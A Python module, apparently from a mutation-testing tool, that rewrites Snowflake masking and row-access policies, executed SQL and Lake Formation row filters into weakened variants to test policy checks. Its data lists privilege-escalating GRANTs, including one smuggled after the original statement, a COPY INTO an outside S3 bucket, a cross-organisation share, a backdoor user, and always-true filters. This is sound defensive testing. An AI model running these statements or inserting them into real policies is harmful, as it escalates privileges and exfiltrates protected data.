"""Rewrites of SQL: policies that show data to every role, statements that grant, filters that exclude nothing."""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from typing import Any, Final

from lakekit_policies.terraform.blocks import nested
from mutation.mutant import Document, Mutant, put, resources

_GRANT: Final = "GRANT ROLE ACCOUNTADMIN TO USER BOB"

CONDITIONS: Final = (
    "1 = 1",
    "TRUE",
    "IS_ROLE_IN_SESSION('PUBLIC')",
    "CURRENT_ROLE() = CURRENT_ROLE()",
    "CURRENT_ROLE() <> 'FR_NONE'",
    "CURRENT_ROLE() NOT IN ('FR_NONE')",
    "CURRENT_ROLE() LIKE '%'",
    "CURRENT_USER() IS NOT NULL",
    "NOT IS_ROLE_IN_SESSION('FR_NONE')",
    "EXISTS (SELECT 1)",
    "{value} IS NOT NULL",
    "{value} = {value}",
)
"""Conditions that hold for every role; ``{value}`` is the first argument."""

RESULTS: Final = (
    "{value}",
    "({value})",
    "{value} -- the mask is returned",
    "COALESCE({value}, NULL)",
    "IFF(TRUE, {value}, NULL)",
    "DECODE(1, 1, {value}, NULL)",
    "CASE WHEN {value} IS NULL THEN NULL ELSE {value} END",
    "(SELECT {value})",
    "NVL({value}, NULL)",
    "TO_VARIANT({value})",
    "SHA2({value})",
)
"""Results that are the value, or reveal it."""

STATEMENTS: Final = (
    _GRANT,
    f"/* comment */ {_GRANT.lower()}",
    f"EXECUTE IMMEDIATE '{_GRANT}'",
    f"EXECUTE IMMEDIATE $${_GRANT}$$",
    f"BEGIN {_GRANT}; END",
    "ALTER SHARE S ADD ACCOUNTS = OTHERORG.ACCOUNT",
    "COPY INTO 's3://not-ours/' FROM T STORAGE_INTEGRATION = SI",
    "CREATE USER BOB PASSWORD = 'x'",
    "ALTER ACCOUNT UNSET NETWORK_POLICY",
    "ALTER TABLE T MODIFY COLUMN C UNSET MASKING POLICY",
    "{statement}; " + _GRANT,
)
"""Statements in place of one that creates an object; ``{statement}`` is the original."""

FILTERS: Final = (
    "TRUE",
    "1 = 1",
    "{filter} OR TRUE",
    "{filter} OR NOT ({filter})",
    "({filter}) OR 1 = 1",
)
"""Row filters that exclude nothing; ``{filter}`` is the original."""


def mutants(stack: str, document: Document) -> Iterator[Mutant]:
    """Every rewrite of the SQL of every resource."""
    for kind, name, body in resources(document):
        for path, text in _rewrites(kind, body):
            words = f"becomes {text if len(text) < 60 else text[:59] + '…'}"
            change = put(kind, name, path, text)
            yield Mutant("SQL rewritten", stack, f"{kind}.{name}", ".".join(map(str, path)), words, True, change)


def _rewrites(kind: str, body: Mapping[str, Any]) -> Iterator[tuple[tuple[str | int, ...], str]]:
    text = str(body.get("body") or "")
    arguments = nested(body, "argument")
    value = str(arguments[0]["name"]) if arguments else ""
    if kind == "snowflake_masking_policy":
        for condition in CONDITIONS:
            yield ("body",), f"CASE WHEN {condition.format(value=value)} THEN {value} ELSE NULL END"
        for result in RESULTS:
            yield ("body",), f"{text.rpartition(' ELSE ')[0]} ELSE {result.format(value=value)}\nEND"
    elif kind == "snowflake_row_access_policy":
        for condition in CONDITIONS:
            yield ("body",), f"CASE WHEN {condition.format(value=value)} THEN TRUE ELSE FALSE END"
            yield ("body",), f"({text}) OR {condition.format(value=value)}"
    elif kind == "snowflake_execute":
        for statement in STATEMENTS:
            yield ("execute",), statement.format(statement=body.get("execute"))
        yield ("query",), "SELECT * FROM CUSTOMERS"
    elif kind == "aws_lakeformation_data_cells_filter":
        for at, data in enumerate(nested(body, "table_data")):
            for filter_at, rows in enumerate(nested(data, "row_filter")):
                if rows.get("filter_expression"):
                    for text_ in FILTERS:
                        path = ("table_data", at, "row_filter", filter_at, "filter_expression")
                        yield path, text_.format(filter=rows["filter_expression"])
